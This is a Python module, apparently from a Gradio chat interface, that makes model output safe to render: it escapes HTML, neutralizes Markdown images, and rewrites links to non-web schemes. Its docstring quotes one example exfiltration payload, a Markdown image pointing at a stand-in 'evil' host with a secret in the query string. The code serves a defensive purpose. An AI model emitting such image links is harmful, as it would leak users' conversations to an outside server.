"""Making text safe to show: what a model writes may format, and may not load or run anything.

Gradio renders answers as Markdown and cleans the HTML in them, but loads the pictures they name:
``![x](https://evil/?q=secret)`` would carry the conversation away. So pictures become their own
text and HTML stays visible as text, except inside code, which is shown as it is anyway.
"""

from __future__ import annotations

import html
import re

from ui.words import WORDS

_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})([^\n]*)$")
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.DOTALL)
_EXECUTING_LINK = re.compile(r"\]\(\s*<?\s*(?!https?://|mailto:|#)[^)\s]*", re.IGNORECASE)


def safe(text: str) -> str:
    """``text`` of a model as Markdown that loads nothing: no pictures, no HTML, no drawings.

    Fenced and inline code stays as it is, but that a ``mermaid`` block is shown, not drawn (its
    language could name remote pictures).
    """
    out: list[str] = []
    prose: list[str] = []
    fence = ""
    for line in text.split("\n"):
        found = _FENCE.match(line)
        if fence:
            out.append(line)
            if found and found[2].startswith(fence) and not found[3].strip():
                fence = ""
        elif found and not (found[2][0] == "`" and "`" in found[3]):
            out.extend(_safe_prose(prose))
            prose = []
            fence = found[2]
            language = found[3].strip()
            plain = language.split()[0] if language and language.isprintable() else ""
            plain = "text" if plain.lower() == "mermaid" else re.sub(r"[^\w+#-]", "", plain)
            out.append(f"{found[1]}{fence}{plain}")
        else:
            prose.append(line)
    out.extend(_safe_prose(prose))
    return "\n".join(out)


def _safe_prose(lines: list[str]) -> list[str]:
    if not lines:
        return []
    text, parts, end = "\n".join(lines), [], 0
    for span in _CODE_SPAN.finditer(text):
        if "\n\n" in span[0]:  # a paragraph ends every code span
            continue
        parts += [_escape(text[end : span.start()]), span[0]]
        end = span.end()
    parts.append(_escape(text[end:]))
    return "".join(parts).split("\n")


def _escape(text: str) -> str:
    """HTML as text, ``![`` as text, and links only to web pages and addresses of mail."""
    text = text.replace("<", "&lt;").replace("![", "&#33;&#91;")
    return _EXECUTING_LINK.sub("](#", text)


def literal(text: str) -> str:
    """``text`` in a fenced code block, whatever fences it holds itself."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}text\n{text}\n{fence}"


def both(key: str, **values: object) -> str:
    """HTML that shows the words for ``key`` in the language of the page; values are escaped."""
    shown = {name: html.escape(str(value), quote=True) for name, value in values.items()}
    english, chinese = (words.format(**shown) for words in WORDS[key])
    return f'<span class="en">{english}</span><span class="zh" lang="zh-CN">{chinese}</span>'
